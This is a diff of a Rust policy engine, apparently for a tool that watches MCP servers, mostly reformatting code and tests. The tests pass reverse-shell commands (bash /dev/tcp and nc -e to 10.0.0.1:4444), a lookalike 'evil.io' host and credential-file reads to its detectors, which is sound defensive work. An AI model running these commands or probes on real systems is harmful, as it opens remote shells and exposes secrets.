@@ -10,7 +10,9 @@ use std::{
 use serde_json::{Value, json};
 
 use super::{
-    activity::{Activity, ExecActivity, FileActivity, NetActivity, NetOp, ProcContext, Proto, RiskyActivity, RiskyOp, StdioKind},
+    activity::{
+        Activity, ExecActivity, FileActivity, NetActivity, NetOp, ProcContext, Proto, RiskyActivity, RiskyOp, StdioKind,
+    },
     baseline::{self, BaselinePaths, Runtime},
     catalog,
     glob::{PathGlob, name_matches},
@@ -176,7 +178,11 @@ impl ServerPolicy {
         if shellish && (e.stdio.iter().flatten().any(|s| *s == StdioKind::Socket) || reverse_shell_argv(&e.argv)) {
             let mut f = finding(
                 &rules::EXEC_REVERSE_SHELL,
-                format!("{} started a shell wired to the network: {}", ctx.server, e.argv.join(" ")),
+                format!(
+                    "{} started a shell wired to the network: {}",
+                    ctx.server,
+                    e.argv.join(" ")
+                ),
                 None,
             );
             f.evidence["stdio"] = json!(e.stdio.iter().map(stdio_name).collect::<Vec<_>>());
@@ -347,8 +353,7 @@ impl ServerPolicy {
             NetOp::Connect | NetOp::SendTo => {
                 if let Some(u) = &n.unix_path {
                     let r = self.resolved();
-                    let ok = baseline::unix_allowed(u)
-                        || r.read.iter().chain(r.write.iter()).any(|g| g.matches(u));
+                    let ok = baseline::unix_allowed(u) || r.read.iter().chain(r.write.iter()).any(|g| g.matches(u));
                     return (!ok).then(|| {
                         finding(
                             &rules::NET_CONNECT_UNDECLARED,
@@ -376,7 +381,11 @@ impl ServerPolicy {
                 if declared_ok || baseline::outbound_allowed(&runtimes, Some(&addr), n.hostname.as_deref(), n.port) {
                     return None;
                 }
-                let to = n.hostname.clone().map(|h| format!("{h} ({target})")).unwrap_or(target.clone());
+                let to = n
+                    .hostname
+                    .clone()
+                    .map(|h| format!("{h} ({target})"))
+                    .unwrap_or(target.clone());
                 Some(finding(
                     &rules::NET_CONNECT_UNDECLARED,
                     format!("{} connected to an undeclared destination: {to}", ctx.server),
@@ -401,7 +410,9 @@ impl ServerPolicy {
                 }
             }
             NetOp::Accept => {
-                if m.inbound.is_empty() || addr.is_some_and(|a| m.inbound.iter().any(|h| h.matches_host(Some(&a), None))) {
+                if m.inbound.is_empty()
+                    || addr.is_some_and(|a| m.inbound.iter().any(|h| h.matches_host(Some(&a), None)))
+                {
                     return None;
                 }
                 Some(finding(
@@ -481,7 +492,10 @@ fn is_ancestor_of_declared(dir: &str, r: &Resolved) -> bool {
 }
 
 pub fn is_shell(program: &str) -> bool {
-    name_matches("{sh,bash,dash,zsh,ksh,mksh,ash,fish,csh,tcsh,busybox}", basename(program))
+    name_matches(
+        "{sh,bash,dash,zsh,ksh,mksh,ash,fish,csh,tcsh,busybox}",
+        basename(program),
+    )
 }
 
 fn is_interpreter(program: &str) -> bool {
@@ -557,7 +571,15 @@ impl Engine {
 
     /// A process was put under watch as `server` (wrapper, rule, scan).
     /// Returns true when the server is new and has no manifest.
-    pub fn on_watch(&mut self, server: &str, pid: u32, uid: u32, exe: &str, argv: &[String], cwd: Option<&str>) -> bool {
+    pub fn on_watch(
+        &mut self,
+        server: &str,
+        pid: u32,
+        uid: u32,
+        exe: &str,
+        argv: &[String],
+        cwd: Option<&str>,
+    ) -> bool {
         let mut fresh = false;
         if !self.servers.contains_key(server) {
             let (m, undeclared) = match self.find(server, exe, argv) {
@@ -622,7 +644,12 @@ mod tests {
     fn server(text: &str, launch: &[&str]) -> (ServerPolicy, ProcContext) {
         let mut s = ServerPolicy::new(manifest(text), false, "/home/u".into());
         let a = argv(launch);
-        s.launching(10, "/usr/local/bin/mcpwatch", &argv(&["mcpwatch", "exec", "--server", "srv", "--"]), None);
+        s.launching(
+            10,
+            "/usr/local/bin/mcpwatch",
+            &argv(&["mcpwatch", "exec", "--server", "srv", "--"]),
+            None,
+        );
         let ctx = ProcContext {
             server: "srv".into(),
             pid: 10,
@@ -634,7 +661,14 @@ mod tests {
         };
         let launched = s.evaluate(&ctx, &exec(&a[0], &a));
         assert!(launched.is_empty(), "the launch is the host's command: {launched:?}");
-        (s, ProcContext { pid: 11, ppid: 10, ..ctx })
+        (
+            s,
+            ProcContext {
+                pid: 11,
+                ppid: 10,
+                ..ctx
+            },
+        )
     }
 
     fn exec(path: &str, a: &[String]) -> Activity {
@@ -678,7 +712,11 @@ mod tests {
         f.iter().map(|f| f.rule.id).collect()
     }
 
-    const NODE: &[&str] = &["node", "/srv/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js", "/data/projects"];
+    const NODE: &[&str] = &[
+        "node",
+        "/srv/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js",
+        "/data/projects",
+    ];
 
     #[test]
     fn files_against_globs_tilde_and_arguments() {
@@ -688,13 +726,29 @@ mod tests {
             NODE,
         );
         let mut check = |a: Activity| rules(&s.evaluate(&ctx, &a));
-        assert!(check(open("/data/projects/a/b.txt", false, 3)).is_empty(), "argument-bound root");
-        assert!(check(open("/home/u/notes/x.md", false, 3)).is_empty(), "~ is the owner's home");
-        assert_eq!(check(open("/home/u/notes/sub/x.md", false, 3)), ["file.read_undeclared"]);
+        assert!(
+            check(open("/data/projects/a/b.txt", false, 3)).is_empty(),
+            "argument-bound root"
+        );
+        assert!(
+            check(open("/home/u/notes/x.md", false, 3)).is_empty(),
+            "~ is the owner's home"
+        );
+        assert_eq!(
+            check(open("/home/u/notes/sub/x.md", false, 3)),
+            ["file.read_undeclared"]
+        );
         assert!(check(open("/data/projects/out/r.txt", true, 3)).is_empty());
-        assert_eq!(check(open("/data/projects/a.txt", true, 3)), ["file.write_undeclared"], "read-only part");
+        assert_eq!(
+            check(open("/data/projects/a.txt", true, 3)),
+            ["file.write_undeclared"],
+            "read-only part"
+        );
         assert_eq!(check(open("/etc/hostname", false, 3)), ["file.read_undeclared"]);
-        assert!(check(open("/etc/hostname", false, -2)).is_empty(), "a failed open touched nothing");
+        assert!(
+            check(open("/etc/hostname", false, -2)).is_empty(),
+            "a failed open touched nothing"
+        );
         // The Node baseline: package tree, libraries, locale, certificates, own /proc.
         for p in [
             "/srv/node_modules/zod/lib/index.js",
@@ -730,8 +784,14 @@ mod tests {
             ["cred.cloud"],
             "probing counts even when the open fails"
         );
-        assert!(s.evaluate(&ctx, &open("/srv/app/.env", false, 3)).is_empty(), "named explicitly");
-        assert_eq!(rules(&s.evaluate(&ctx, &open("/home/u/.bash_history", true, 3))), ["cred.shell_history"]);
+        assert!(
+            s.evaluate(&ctx, &open("/srv/app/.env", false, 3)).is_empty(),
+            "named explicitly"
+        );
+        assert_eq!(
+            rules(&s.evaluate(&ctx, &open("/home/u/.bash_history", true, 3))),
+            ["cred.shell_history"]
+        );
     }
 
     #[test]
@@ -741,7 +801,10 @@ mod tests {
         ctx.argv = argv(&["node", "/usr/bin/npx", "-y", "@modelcontextprotocol/server-memory"]);
         assert!(s.evaluate(&ctx, &open("/home/u/.npmrc", false, -2)).is_empty());
         ctx.argv = argv(&["node", "/srv/node_modules/.bin/mcp-server-memory"]);
-        assert_eq!(rules(&s.evaluate(&ctx, &open("/home/u/.npmrc", false, 3))), ["cred.npmrc"]);
+        assert_eq!(
+            rules(&s.evaluate(&ctx, &open("/home/u/.npmrc", false, 3))),
+            ["cred.npmrc"]
+        );
     }
 
     #[test]
@@ -752,13 +815,22 @@ mod tests {
         );
         let mut check = |a: Activity| rules(&s.evaluate(&ctx, &a));
         assert!(check(connect("140.82.112.3", 443, Some("api.github.com"))).is_empty());
-        assert_eq!(check(connect("140.82.112.3", 80, Some("api.github.com"))), ["net.connect_undeclared"]);
-        assert_eq!(check(connect("140.82.112.3", 443, Some("github.com.evil.io"))), ["net.connect_undeclared"]);
+        assert_eq!(
+            check(connect("140.82.112.3", 80, Some("api.github.com"))),
+            ["net.connect_undeclared"]
+        );
+        assert_eq!(
+            check(connect("140.82.112.3", 443, Some("github.com.evil.io"))),
+            ["net.connect_undeclared"]
+        );
         assert!(check(connect("10.1.2.3", 443, None)).is_empty());
         assert!(check(connect("127.0.0.1", 5432, None)).is_empty(), "host:port pair");
         assert!(check(connect("::ffff:127.0.0.1", 5432, None)).is_empty(), "IPv4-mapped");
         assert_eq!(check(connect("127.0.0.1", 6379, None)), ["net.connect_undeclared"]);
-        assert!(check(connect("127.0.0.53", 53, None)).is_empty(), "DNS to the local resolver");
+        assert!(
+            check(connect("127.0.0.53", 53, None)).is_empty(),
+            "DNS to the local resolver"
+        );
         let unix = Activity::Net(NetActivity {
             op: NetOp::Connect,
             proto: Proto::Other,
@@ -790,7 +862,10 @@ mod tests {
             })
         };
         assert!(s.evaluate(&ctx, &listen("127.0.0.1", 8080)).is_empty());
-        assert_eq!(rules(&s.evaluate(&ctx, &listen("127.0.0.1", 9000))), ["net.listen_undeclared"]);
+        assert_eq!(
+            rules(&s.evaluate(&ctx, &listen("127.0.0.1", 9000))),
+            ["net.listen_undeclared"]
+        );
         let f = s.evaluate(&ctx, &listen("0.0.0.0", 8080));
         assert_eq!(rules(&f), ["net.listen_exposed"]);
         assert_eq!(f[0].rule.severity, crate::alert::Severity::High);
@@ -798,16 +873,35 @@ mod tests {
 
     #[test]
     fn exec_rules() {
-        let (mut s, ctx) = server(r#"{"exec": ["git", "/opt/tools/*"]}"#, &["/v/bin/python", "-m", "mcp_server_git"]);
+        let (mut s, ctx) = server(
+            r#"{"exec": ["git", "/opt/tools/*"]}"#,
+            &["/v/bin/python", "-m", "mcp_server_git"],
+        );
         let mut check = |path: &str, a: &[&str]| rules(&s.evaluate(&ctx, &exec(path, &argv(a))));
         assert!(check("/usr/bin/git", &["git", "status"]).is_empty(), "by name");
         assert!(check("/opt/tools/x", &["x"]).is_empty(), "by path glob");
-        assert!(check("/v/bin/python3", &["python3", "-c", "pass"]).is_empty(), "the Python runtime");
-        assert_eq!(check("/usr/bin/node", &["node", "-e", "1"]), ["exec.undeclared"], "not a runtime it launched with");
+        assert!(
+            check("/v/bin/python3", &["python3", "-c", "pass"]).is_empty(),
+            "the Python runtime"
+        );
+        assert_eq!(
+            check("/usr/bin/node", &["node", "-e", "1"]),
+            ["exec.undeclared"],
+            "not a runtime it launched with"
+        );
         assert_eq!(check("/usr/bin/curl", &["curl", "x"]), ["exec.undeclared"]);
         assert_eq!(check("/usr/bin/bash", &["bash", "-c", "ls"]), ["exec.shell"]);
-        assert_eq!(check("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]), ["exec.reverse_shell"]);
-        assert_eq!(check("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), ["exec.reverse_shell"]);
+        assert_eq!(
+            check(
+                "/usr/bin/bash",
+                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
+            ),
+            ["exec.reverse_shell"]
+        );
+        assert_eq!(
+            check("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
+            ["exec.reverse_shell"]
+        );
         let fileless = Activity::Exec(ExecActivity {
             filename: "/proc/self/fd/3".into(),
             fileless: true,
@@ -867,10 +961,22 @@ mod tests {
         let f = s.evaluate(&ctx, &risky(RiskyOp::Ptrace, Some(999)));
         assert_eq!(rules(&f), ["proc.ptrace"]);
         assert_eq!(f[0].rule.mitre.unwrap().0, "T1055.008");
-        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(999)))), ["proc.memory"]);
-        assert!(s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(11))).is_empty(), "its own memory");
-        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcEnviron, Some(1)))), ["proc.environ"]);
-        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::InitModule, None))), ["priv.kernel_module"]);
+        assert_eq!(
+            rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(999)))),
+            ["proc.memory"]
+        );
+        assert!(
+            s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(11))).is_empty(),
+            "its own memory"
+        );
+        assert_eq!(
+            rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcEnviron, Some(1)))),
+            ["proc.environ"]
+        );
+        assert_eq!(
+            rules(&s.evaluate(&ctx, &risky(RiskyOp::InitModule, None))),
+            ["priv.kernel_module"]
+        );
         assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::SetUid, None))), ["priv.setid"]);
         // The file open of another process's memory is left to the risky event.
         assert!(s.evaluate(&ctx, &open("/proc/999/mem", false, 3)).is_empty());
@@ -881,14 +987,40 @@ mod tests {
         let mut e = Engine::default();
         let git = manifest(r#"{"name": "git", "match": {"argv": ["mcp_server_git"]}, "exec": ["git"]}"#);
         e.set_manifests(vec![git]);
-        assert!(!e.on_watch("git", 1, 0, "/v/bin/python", &argv(&["python", "-m", "mcp_server_git"]), None));
-        assert!(!e.on_watch("my-git", 2, 0, "/v/bin/python", &argv(&["python", "-m", "mcp_server_git"]), None));
-        assert!(e.on_watch("other", 3, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None), "undeclared");
-        assert!(!e.on_watch("other", 4, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None), "flagged once");
+        assert!(!e.on_watch(
+            "git",
+            1,
+            0,
+            "/v/bin/python",
+            &argv(&["python", "-m", "mcp_server_git"]),
+            None
+        ));
+        assert!(!e.on_watch(
+            "my-git",
+            2,
+            0,
+            "/v/bin/python",
+            &argv(&["python", "-m", "mcp_server_git"]),
+            None
+        ));
+        assert!(
+            e.on_watch("other", 3, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None),
+            "undeclared"
+        );
+        assert!(
+            !e.on_watch("other", 4, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None),
+            "flagged once"
+        );
         assert_eq!(e.server("my-git").unwrap().manifest.name, "git");
         assert!(e.server("other").unwrap().undeclared);
         e.set_manifests(vec![manifest(r#"{"name": "other"}"#)]);
-        assert!(!e.server("other").unwrap().undeclared, "a manifest that appears applies at once");
-        assert!(e.server("git").unwrap().undeclared, "one that goes away leaves least privilege");
+        assert!(
+            !e.server("other").unwrap().undeclared,
+            "a manifest that appears applies at once"
+        );
+        assert!(
+            e.server("git").unwrap().undeclared,
+            "one that goes away leaves least privilege"
+        );
     }
 }
